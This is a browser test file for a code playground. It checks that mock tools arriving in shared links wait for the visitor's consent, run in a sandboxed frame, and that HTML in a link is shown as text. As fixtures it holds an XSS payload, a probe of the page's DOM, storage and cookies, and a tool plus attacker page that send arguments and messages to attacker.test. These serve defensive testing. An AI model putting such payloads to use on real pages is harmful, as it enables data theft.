// Browser tests of what a shared link may do to the visitor (issue 11, item 13):
// a link's mock-tools code never runs before the visitor presses "Trust and run",
// and then runs in a sandbox cut off from the page; whatever a link carries
// (program, context, entry, memory) is shown as text, never as HTML.
//   node --test tests/browser/
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { editorText, nextRun, resultText, setEditor, shot, startAll, waitForRuns } from "./helpers.mjs";

let env;
before(async () => {
  env = await startAll();
});
after(async () => {
  await env?.close();
});

/** A link as the page makes it without CompressionStream: "#j=" and the session's JSON in base64url. */
const linkOf = (session) => `#j=${Buffer.from(JSON.stringify({ v: 1, ...session })).toString("base64url")}`;

// Tools a stranger might share. Evaluating the text (top level) leaves marks on
// whatever window runs it and posts "shared-tools-ran" to its parent; calling
// `probe` reports whether the page's DOM and storage could be reached.
const HOSTILE_TOOLS = `probe: (() => {
  try { parent.postMessage("shared-tools-ran", "*"); } catch {}
  window.__pwned = "evaluated";
  document.title = "pwned";
  try { localStorage.setItem("pwned", "1"); } catch {}
  return async () => {
    const seen = {};
    try { parent.document.title = "pwned by a call"; seen.pageDom = "reached"; } catch { seen.pageDom = "blocked"; }
    try { localStorage.setItem("pwned", "1"); seen.storage = "reached"; } catch { seen.storage = "blocked"; }
    try { document.cookie = "pwned=1"; seen.cookie = document.cookie.includes("pwned") ? "reached" : "blocked"; } catch { seen.cookie = "blocked"; }
    window.__pwned = "called";
    return seen;
  };
})(),
`;
const PROBE_PROGRAM = '{"program": {"op": "call", "tool": "probe", "args": {}}}';
const HOSTILE = { program: PROBE_PROGRAM, context: "{}", tools: HOSTILE_TOOLS };
const SANDBOXED = { pageDom: "blocked", storage: "blocked", cookie: "blocked" };

/** Opens a page that records a "shared-tools-ran" message from any frame, before any of its scripts run. */
async function openWatched(path, viewport) {
  const context = await env.browser.newContext({ viewport: viewport ?? { width: 1440, height: 900 } });
  await context.addInitScript(() => {
    window.__ranAnywhere = false;
    window.addEventListener("message", (e) => {
      if (e.data === "shared-tools-ran") window.__ranAnywhere = true;
    });
  });
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(String(e)));
  await page.goto(env.server.url + path);
  return { page, context, errors };
}

/** Everything a link's code could have touched in the page. */
const marks = (page) =>
  page.evaluate(() => ({
    pwned: window.__pwned ?? null,
    title: document.title,
    storage: localStorage.getItem("pwned"),
    cookie: document.cookie,
    ranAnywhere: window.__ranAnywhere,
  }));
const UNTOUCHED = { pwned: null, title: "ptc-wasm playground", storage: null, cookie: "", ranAnywhere: false };

/**
 * Waits until the page has settled on a link (the engine loaded, no run under
 * way), gives a would-be evaluation every chance to happen, then checks that
 * nothing was touched and the link's tools are held for consent.
 */
async function expectHeld(page) {
  await page.waitForFunction(() => !["loading", "running"].includes(document.body.dataset.status ?? "loading"), null, {
    timeout: 60_000,
  });
  await page.waitForTimeout(500);
  assert.deepEqual(await marks(page), UNTOUCHED);
  assert.equal(await page.evaluate(() => document.body.dataset.status), "held");
  assert.ok(await page.locator("#consent").isVisible(), "the consent notice shows");
}

describe("shared links", () => {
  test("a link's mock tools do not run on load; Trust and run runs them in a sandbox", async () => {
    const { page, context, errors } = await openWatched(linkOf(HOSTILE));
    await expectHeld(page);
    assert.equal(await page.evaluate(() => window.__playground.runs), 0, "nothing ran");
    // The tools are shown, marked as coming from the link.
    assert.equal(await editorText(page, "tools"), HOSTILE_TOOLS);
    assert.match(
      await page.locator("#consent").innerText(),
      /came from a shared link[\s\S]*not run[\s\S]*Trust and run/,
    );
    assert.match(await page.locator("#tab-tools").innerText(), /from link/);
    assert.match(await page.locator("#run-status").innerText(), /not run/i);
    await shot(page, "consent-laptop");
    // Reviewing them: the Tools tab has the same notice and button.
    await page.click("#consent-review");
    assert.ok(await page.locator("#panel-tools").isVisible());
    assert.match(await page.locator("#tools-consent").innerText(), /shared link[\s\S]*not run/);
    await shot(page, "consent-tools-tab");
    assert.deepEqual(await marks(page), UNTOUCHED);

    await nextRun(page, () => page.click("#tools-consent .trust-tools"));
    // The program ran with the link's tools, which reached neither the page's DOM nor its storage.
    assert.deepEqual(JSON.parse(await resultText(page)), SANDBOXED);
    const after = await marks(page);
    assert.equal(after.ranAnywhere, true, "the tools did run (in their sandbox)");
    assert.deepEqual({ ...after, ranAnywhere: false }, UNTOUCHED);
    assert.ok(await page.locator("#consent").isHidden());
    assert.ok(await page.locator("#tools-consent").isHidden());
    assert.doesNotMatch(await page.locator("#tab-tools").innerText(), /from link/);
    assert.match(await page.locator("#calls > li").first().innerText(), /probe[\s\S]*returned object with 3 keys/);
    // Trusted now: the visitor's later edits run as usual.
    await nextRun(page, () => setEditor(page, "tools", `${HOSTILE_TOOLS}double: async ({ n }) => n * 2,\n`));
    await nextRun(page, () =>
      setEditor(page, "program", '{"program": {"op": "call", "tool": "double", "args": {"n": 21}}}'),
    );
    assert.equal(await resultText(page), "42");
    assert.deepEqual(errors, []);
    await context.close();
  });

  test("a link opened in an open page (hash change) is held too, also after edits to its tools", async () => {
    const { page, context, errors } = await openWatched("");
    await waitForRuns(page, 1);
    assert.equal(await resultText(page), "1234.5");
    await page.evaluate((hash) => (location.hash = hash), linkOf(HOSTILE));
    await page.waitForFunction((p) => window.__playground.views.program.state.doc.toString() === p, PROBE_PROGRAM);
    await expectHeld(page);
    // Editing the link's tools does not make them the visitor's: still held.
    await page.click("#tab-tools");
    await setEditor(page, "tools", HOSTILE_TOOLS.replace("async () =>", "async (args) =>"));
    await page.waitForTimeout(600);
    assert.equal(await page.evaluate(() => document.body.dataset.status), "held");
    assert.deepEqual(await marks(page), UNTOUCHED);
    await nextRun(page, () => page.click("#consent .trust-tools"));
    assert.deepEqual(JSON.parse(await resultText(page)), SANDBOXED);
    assert.equal((await marks(page)).pwned, null);
    // A second link: held again, although the first one was trusted.
    const second = { ...HOSTILE, tools: HOSTILE_TOOLS.replace('"1"', '"2"') };
    await page.evaluate(() => (window.__ranAnywhere = false));
    await page.evaluate((hash) => (location.hash = hash), linkOf(second));
    await page.waitForFunction((t) => window.__playground.views.tools.state.doc.toString() === t, second.tools);
    await expectHeld(page);
    // Picking an example replaces the tools with the page's own: they run at once.
    await nextRun(page, () => page.selectOption("#example-select", "7.3"));
    assert.ok(await page.locator("#consent").isHidden());
    assert.match(await resultText(page), /"name": "Alice"/);
    assert.equal((await marks(page)).pwned, null);
    assert.deepEqual(errors, []);
    await context.close();
  });

  test("a step-function link's tools are held the same way", async () => {
    const program =
      '{"function": "main", "output": "record", "steps": [{"let": "seen", "call": "probe", "args": {}}, {"return": "$seen"}]}';
    const { page, context, errors } = await openWatched(
      linkOf({ dialect: "step-functions", program, context: "{}", tools: HOSTILE_TOOLS }),
    );
    await expectHeld(page);
    assert.equal(await page.evaluate(() => window.__playground.dialect), "step-functions");
    await nextRun(page, () => page.click("#consent .trust-tools"));
    assert.deepEqual(JSON.parse(await resultText(page)), SANDBOXED);
    assert.equal(await page.locator("#trace .trace-row").count(), 2);
    assert.equal((await marks(page)).pwned, null);
    assert.deepEqual(errors, []);
    await context.close();
  });

  test("a link whose tools are an example's own runs without asking", async () => {
    // The page's own code (what picking example 7.3 puts in the Tools tab) is not a stranger's.
    const { page, context } = await openWatched("");
    await waitForRuns(page, 1);
    await nextRun(page, () => page.selectOption("#example-select", "7.3"));
    const session = {
      program: await editorText(page, "program"),
      context: await editorText(page, "context"),
      tools: await editorText(page, "tools"),
    };
    await context.close();
    const again = await openWatched(linkOf(session));
    await waitForRuns(again.page, 1);
    assert.ok(await again.page.locator("#consent").isHidden());
    assert.match(await resultText(again.page), /"name": "Alice"/);
    await again.context.close();
  });

  test("on a phone, the consent notice and its button are in view", async () => {
    const { page, context } = await openWatched(linkOf(HOSTILE), { width: 390, height: 844 });
    await expectHeld(page);
    const overflow = await page.evaluate(() =>
      Math.max(0, document.documentElement.scrollWidth - document.documentElement.clientWidth),
    );
    assert.equal(overflow, 0);
    await page.locator("#consent").scrollIntoViewIfNeeded();
    assert.ok(await page.locator("#consent .trust-tools").isVisible());
    await shot(page, "consent-phone");
    await nextRun(page, () => page.click("#consent .trust-tools"));
    assert.deepEqual(JSON.parse(await resultText(page)), SANDBOXED);
    await context.close();
  });

  test("HTML in a link's program, context, memory and entry is shown as text", async () => {
    const html = `<img src=x onerror="window.__pwned='html'">`;
    // An unknown op named with HTML: the validation error quotes it.
    const { page, context, errors } = await openWatched(
      linkOf({
        program: JSON.stringify({ program: { op: "pipe", steps: [{ op: "load", name: html }, { op: html }] } }),
        context: JSON.stringify({ [html]: [1] }),
        tools: "",
        memory: { [html]: html },
      }),
    );
    await waitForRuns(page, 1);
    assert.equal(await page.evaluate(() => document.body.dataset.errorType), "validation_error");
    assert.ok((await page.locator("#error-message").innerText()).includes(`Unknown operation '${html}'`));
    assert.ok((await page.locator("#memory-in").innerText()).includes("<img src=x onerror="));
    const [d] = await page.evaluate(() => window.__playground.diagnostics());
    assert.ok(d.message.includes(html));
    // The program without the bad step: the context key comes back as a value.
    await nextRun(page, () => setEditor(page, "program", JSON.stringify({ program: { op: "literal", value: html } })));
    assert.ok((await resultText(page)).includes(html.replace(/"/g, '\\"')));
    // A step-function file whose function is named with HTML: the entry selector, the parameters and the trace.
    await page.evaluate(
      (hash) => (location.hash = hash),
      linkOf({
        dialect: "step-functions",
        entry: html,
        program: JSON.stringify({ function: html, input: { [html]: "text" }, steps: [{ return: `$input.${"x"}` }] }),
        context: JSON.stringify({ [html]: "y" }),
        tools: "",
      }),
    );
    await page.waitForFunction(
      () => window.__playground.dialect === "step-functions" && document.body.dataset.status !== "running",
    );
    await page.waitForTimeout(300);
    assert.ok((await page.locator("#entry-select").innerText()).includes(html));
    assert.ok((await page.locator("#entry-params").innerText()).includes(html));
    assert.equal(await page.locator("img").count(), 0, "no element was made from a link's text");
    assert.equal(await page.evaluate(() => window.__pwned ?? null), null);
    assert.deepEqual(errors, []);
    await context.close();
  });
});

describe("the mock tools' sandbox", () => {
  test("the visitor's own tools run at once, in the sandbox; an endless loop in one costs a timeout, not the page", async () => {
    const { page, context, errors } = await openWatched("");
    await waitForRuns(page, 1);
    // Typed by the visitor: no consent asked, and still cut off from the page.
    await page.click("#tab-tools");
    await nextRun(page, () => setEditor(page, "tools", HOSTILE_TOOLS));
    await nextRun(page, () => setEditor(page, "program", PROBE_PROGRAM));
    assert.ok(await page.locator("#tools-consent").isHidden());
    assert.deepEqual(JSON.parse(await resultText(page)), SANDBOXED);
    assert.equal((await marks(page)).pwned, null);

    // A tool that never returns: the run times out (the page, not frozen, shows it) and the next run works.
    await nextRun(page, () =>
      setEditor(page, "tools", "spin: async () => { for (;;) {} },\nanswer: async () => 42,\n"),
    );
    await nextRun(page, () => setEditor(page, "program", '{"program": {"op": "call", "tool": "spin", "args": {}}}'));
    assert.equal(await page.evaluate(() => document.body.dataset.errorType), "timeout");
    assert.match(await page.locator("#error-message").innerText(), /tool 'spin' had not answered after 1000 ms/);
    await nextRun(page, () => setEditor(page, "program", '{"program": {"op": "call", "tool": "answer", "args": {}}}'));
    assert.equal(await resultText(page), "42");

    // An endless loop while the tools text is evaluated: a Tools error, then the fixed text works.
    await nextRun(page, () => setEditor(page, "tools", "answer: (() => { for (;;) {} })(),\n"));
    assert.equal(await page.evaluate(() => document.body.dataset.errorType), "tools_error");
    assert.match(await page.locator("#error-message").innerText(), /did not finish within 1000 ms/);
    await nextRun(page, () => setEditor(page, "tools", "answer: async () => 43,\n"));
    assert.equal(await resultText(page), "43");

    // What a tool throws or returns that is not JSON is reported at its call.
    await nextRun(page, () =>
      setEditor(page, "tools", 'answer: async () => { throw "plain text"; },\nfn: async () => () => 1,\n'),
    );
    assert.match(await page.locator("#calls").innerText(), /answer[\s\S]*threw[\s\S]*plain text/);
    await nextRun(page, () => setEditor(page, "program", '{"program": {"op": "call", "tool": "fn", "args": {}}}'));
    assert.match(await page.locator("#error-message").innerText(), /fn[\s\S]*not JSON data/);
    assert.deepEqual(errors, []);
    await context.close();
  });

  // Issue 24, item 20: a tool that navigates its own frame (CSP does not govern
  // that) would send data out in the URL, and the page it loaded, still the
  // tools frame, would get every later call's args.
  const NAVIGATING_TOOLS =
    'leak: async (args) => { location.href = "http://attacker.test/leak?" + encodeURIComponent(JSON.stringify(args)); return "sent"; },\n' +
    "card: async ({ number }) => number.slice(-4),\n";
  const LEAK = '{"program": {"op": "call", "tool": "leak", "args": {"secret": "1111"}}}';
  const CARD = '{"program": {"op": "call", "tool": "card", "args": {"number": "4242 4242 4242 4242"}}}';
  // The attacker's page: reports every message it gets, and posts what the page might take for the frame's.
  const ATTACKER_PAGE = `<script>
    addEventListener("message", (e) => { new Image().src = "http://attacker.test/got?" + encodeURIComponent(JSON.stringify(e.data)); });
    parent.postMessage({ kind: "ready" }, "*");
    for (let id = 0; id < 50; id++) parent.postMessage({ kind: "result", id, ok: true, value: "forged" }, "*");
  </script>`;

  /** The page with the navigating tools; `policy: false` serves it without its Content-Security-Policy. */
  async function navigatingTools({ policy }) {
    const { page, context, errors } = await openWatched("");
    const attacker = [];
    await context.route(
      (url) => url.hostname === "attacker.test",
      (route) => {
        attacker.push(decodeURIComponent(route.request().url()));
        return route.fulfill({ contentType: "text/html", body: ATTACKER_PAGE });
      },
    );
    if (!policy)
      await context.route(`${env.server.url}`, async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
        await route.fulfill({ response, body });
      });
    if (!policy) await page.reload();
    await waitForRuns(page, 1);
    await page.click("#tab-tools");
    await nextRun(page, () => setEditor(page, "tools", NAVIGATING_TOOLS));
    // The frame the tools navigate, marked: the page must replace it.
    await page.evaluate(() => (document.querySelector("iframe.tool-sandbox").dataset.navigated = "yes"));
    await nextRun(page, () => setEditor(page, "program", LEAK));
    assert.equal(await resultText(page), '"sent"');
    await page.waitForFunction(() => !document.querySelector("iframe.tool-sandbox[data-navigated]"), null, {
      timeout: 60_000,
    });
    await nextRun(page, () => setEditor(page, "program", CARD));
    assert.equal(await resultText(page), '"4242"', "a fresh frame answered");
    return { page, context, errors, attacker };
  }

  test("a tool that navigates its frame: no request leaves; the frame is replaced for later calls", async () => {
    const { context, errors, attacker } = await navigatingTools({ policy: true });
    assert.deepEqual(attacker, [], "the page's frame-src 'self' blocked the navigation");
    assert.deepEqual(errors, []);
    await context.close();
  });

  test("where a navigation is not blocked (a page without its policy), the loaded page gets no later call", async () => {
    const { context, attacker } = await navigatingTools({ policy: false });
    assert.ok(attacker[0].startsWith('http://attacker.test/leak?{"secret":"1111"}'), "the navigation went out");
    assert.deepEqual(
      attacker.filter((url) => url.includes("/got?")),
      [],
      "the attacker's page was sent nothing, and the card number never reached it",
    );
    await context.close();
  });

  test("a page under a strict Content-Security-Policy (no inline script, no eval) still runs its mock tools", async () => {
    const context = await env.browser.newContext({ viewport: { width: 1280, height: 800 } });
    // The policy `npx ptc-wasm playground` sends. The tools frame is a document of its
    // own (tools-frame.html, with its own policy), so it does not inherit the page's.
    await context.route(`${env.server.url}`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({
        response,
        headers: { ...response.headers(), "content-security-policy": "script-src 'self' 'wasm-unsafe-eval'" },
      });
    });
    const page = await context.newPage();
    await page.goto(env.server.url);
    await waitForRuns(page, 1, 60_000);
    await page.click("#tab-tools");
    await nextRun(page, () => setEditor(page, "tools", "card: async ({ number }) => number.slice(0, 4),"));
    await nextRun(page, () => setEditor(page, "program", CARD));
    assert.equal(await resultText(page), '"4242"');
    await context.close();
  });
});
